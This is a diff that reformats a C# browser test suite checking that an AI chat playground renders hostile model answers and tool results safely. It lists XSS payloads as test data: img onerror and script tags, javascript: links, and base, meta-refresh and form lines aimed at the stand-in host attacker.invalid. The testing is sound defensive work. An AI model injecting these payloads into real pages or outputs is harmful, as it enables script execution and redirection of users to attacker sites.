@@ -29,7 +29,8 @@ public sealed class HostileAnswerTests(BrowserFixture browser)
         "`<img src=x onerror=window.hacked=1>`",
         "| <img src=x onerror=window.hacked=1> |\n|---|\n| <script>window.hacked=1</script> |",
         "&lt;script&gt;window.hacked=1&lt;/script&gt;",
-        "<style>body{display:none}</style><base href=\"https://attacker.invalid/\"><meta http-equiv=refresh content=\"0;url=https://attacker.invalid\">",
+        "<style>body{display:none}</style><base href=\"https://attacker.invalid/\"><meta http-equiv=refresh "
+        + "content=\"0;url=https://attacker.invalid\">",
         "<form action=\"https://attacker.invalid\"><input name=q><button>Go</button></form>",
         "<a href=\"javascript:window.hacked=1\">click</a>",
         "# <a onclick=window.hacked=1>title</a>\n\n> <details open ontoggle=window.hacked=1>",
@@ -39,13 +40,15 @@ public sealed class HostileAnswerTests(BrowserFixture browser)
     [BrowserFact]
     public async Task No_attack_does_anything()
     {
-        await using var app = await PlaygroundPage.OpenAsync(browser, arguments: ["--Playground:RequestsPerMinute", "1000"]);
+        await using var app = await PlaygroundPage.OpenAsync(
+            browser, arguments: ["--Playground:RequestsPerMinute", "1000"]);
         List<string> requests = [];
         app.Page.Request += (_, request) => requests.Add(request.Url);
 
         foreach (var attack in Attacks)
         {
-            app.Emulator.Script.For(model: Model).Answer(new EmulatorAnswer($"Before. {attack}\n\n{attack}\n\nAfter.") { Reasoning = attack }).Once();
+            app.Emulator.Script.For(model: Model)
+                .Answer(new EmulatorAnswer($"Before. {attack}\n\n{attack}\n\nAfter.") { Reasoning = attack }).Once();
             await app.AskToTheEndAsync(attack);
             await Expect(app.Answer.Locator(".markdown")).ToContainTextAsync("After.");
             await CheckAsync(app, attack);
@@ -66,12 +69,16 @@ public sealed class HostileAnswerTests(BrowserFixture browser)
         await using var app = await PlaygroundPage.OpenAsync(browser);
         await app.OpenPanelAsync("Settings");
         await app.Page.GetByRole(AriaRole.Checkbox, new() { Name = "get_weather" }).CheckAsync();
-        app.Emulator.Script.For(model: Model).Answer(new EmulatorAnswer { ToolCalls = [new("get_weather", """{"city":"<img src=x onerror=window.hacked=1>"}""")] }).Once();
+        app.Emulator.Script.For(model: Model)
+            .Answer(
+                new EmulatorAnswer { ToolCalls = [
+                    new("get_weather", """{"city":"<img src=x onerror=window.hacked=1>"}""")] }).Once();
 
         await app.AskToTheEndAsync("weather");
 
         await app.Answer.Locator("details.tool summary").ClickAsync();
-        await Expect(app.Answer.GetByLabel("Result of get_weather")).ToContainTextAsync("<img src=x onerror=window.hacked=1>");
+        await Expect(app.Answer.GetByLabel("Result of get_weather"))
+            .ToContainTextAsync("<img src=x onerror=window.hacked=1>");
         await CheckAsync(app, "a tool's result");
     }
 
@@ -79,14 +86,19 @@ public sealed class HostileAnswerTests(BrowserFixture browser)
     public async Task Good_markdown_still_looks_like_it()
     {
         await using var app = await PlaygroundPage.OpenAsync(browser);
-        app.Emulator.Script.For(model: Model).Text("**bold** [link](https://example.com/a?b=1&c=2) `a < b && c` &amp; AT&T\n\n- [x] done\n\n1. one\n2. two\n\n| a |\n|---|\n| b |\n\n~~gone~~").Once();
+        app.Emulator.Script.For(model: Model)
+            .Text(
+                "**bold** [link](https://example.com/a?b=1&c=2) `a < b && c` &amp; AT&T\n\n- [x] done\n\n1. one\n2. "
+                + "two\n\n| a |\n|---|\n| b |\n\n~~gone~~").Once();
 
         await app.AskToTheEndAsync("Markdown, please");
 
         var shown = app.Answer.Locator(".markdown");
         await Expect(shown.Locator("strong")).ToHaveTextAsync("bold");
-        await Expect(shown.GetByRole(AriaRole.Link, new() { Name = "link" })).ToHaveAttributeAsync("href", "https://example.com/a?b=1&c=2");
-        await Expect(shown.GetByRole(AriaRole.Link, new() { Name = "link" })).ToHaveAttributeAsync("rel", "noopener noreferrer nofollow");
+        await Expect(shown.GetByRole(AriaRole.Link, new() { Name = "link" }))
+            .ToHaveAttributeAsync("href", "https://example.com/a?b=1&c=2");
+        await Expect(shown.GetByRole(AriaRole.Link, new() { Name = "link" }))
+            .ToHaveAttributeAsync("rel", "noopener noreferrer nofollow");
         await Expect(shown.Locator("code")).ToHaveTextAsync("a < b && c");
         await Expect(shown).ToContainTextAsync("& AT&T");
         await Expect(shown.Locator("ol > li")).ToHaveCountAsync(2);
@@ -95,7 +107,9 @@ public sealed class HostileAnswerTests(BrowserFixture browser)
         await Expect(shown.GetByRole(AriaRole.Checkbox)).ToBeCheckedAsync();
     }
 
-    /// <summary>Only elements that the renderer makes are there, no attribute is a script, and nothing has run.</summary>
+    /// <summary>
+    /// Only elements that the renderer makes are there, no attribute is a script, and nothing has run.
+    /// </summary>
     private static async Task CheckAsync(PlaygroundPage app, string attack)
     {
         var found = await app.Page.EvaluateAsync<string[]>(
